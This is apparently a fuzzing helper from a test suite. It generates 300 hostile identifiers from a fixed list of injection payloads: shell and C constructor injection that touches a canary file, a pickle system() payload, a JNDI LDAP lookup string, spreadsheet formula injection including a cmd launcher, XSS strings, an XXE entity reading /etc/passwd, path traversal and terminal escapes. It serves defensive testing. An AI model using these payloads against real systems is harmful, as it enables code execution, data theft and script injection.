"""Names that an attacker would choose: the same 300 in every run."""

import random
from html.parser import HTMLParser

CANARY = "PWNED"
PIECES = (
    f'*/ __attribute__((constructor)) void f(void) {{ system("touch {CANARY}"); }} /*',
    *(f"*/\nint {CANARY};\n/*", f"$(touch {CANARY})", f"`touch {CANARY}`", f"; touch {CANARY} #"),
    *(f"\\\n#error {CANARY}\n", "??/", f"x *\\\n/ int {CANARY}; /*", f"x *??/\n/ int {CANARY}; /*"),
    *(f"&& touch {CANARY} &&", f"| touch {CANARY}", f"cos\nsystem\n(S'touch {CANARY}'\ntR."),
    *("${jndi:ldap://x.test/a}", "--help", f"-o {CANARY}", "*", "/", "/*", '=HYPERLINK("http://x.test","y")'),
    *("=1+1", "x;=1+1", "\uff1d1+1", "+1+1", "@SUM(A1:A9)", "\t=1+1", "=cmd|' /C calc'!A0"),
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title>", "</script><script>alert(1)//"),
    *("</style><svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "[x](javascript:alert(1))"),
    *("&xxe;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "{{7*7}}", "__proto__", "]]>", "<!--", "&lt;"),
    *("' onmouseover='x", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://x.test\x07", "\x1bP$q\x1b\\"),
    *("\x9d0;title\x9c", "\b\b\b", "\r", "\n", "\0", "\x7f", "\x9b2J", "\u202e", "\u2028", "\ufeff", "\ud800"),
    *("\udfff\ud83d", "Z" + "\u0351\u036b" * 20, "\n[inputs]\n", '"\n"x" = 1 #', '"]', '"}], "x": [{"', '"""'),
    *("\\", "\\u0000", '"', "'", ",", ";", "a.b", "#", "[bold]", f"../../../{CANARY}", f"/tmp/{CANARY}"),
    *("..\\..\\x", "CON", "nul.csv", "\\\\x.test\\share\\x", ".", "x. ", "%999999999d", "%(x)s", "{0.__class__}"),
    *("$x^2$", "@TITLE@", "@DATA@", "__import__('os')", "ä", "温度", "x" * 300, "machine/field"),
    *("![](http://x.test/a.png)", "|", "`", "der(x)", "end x; model y", "time", "nan", "1e999", " "),
)


def hostile_names(count: int = 300) -> list[str]:
    """Each piece alone, then two or three of them around letters; all different."""
    chance, names = random.Random(1), dict.fromkeys(PIECES)
    while len(names) < count:
        names[chance.choice(("", "x", "T ")).join(chance.choices(PIECES, k=chance.choice((2, 2, 3))))] = None
    return list(names)[:count]


class Tags(HTMLParser):
    """Every tag with its attributes."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, *sorted(name for name, _ in attributes)))
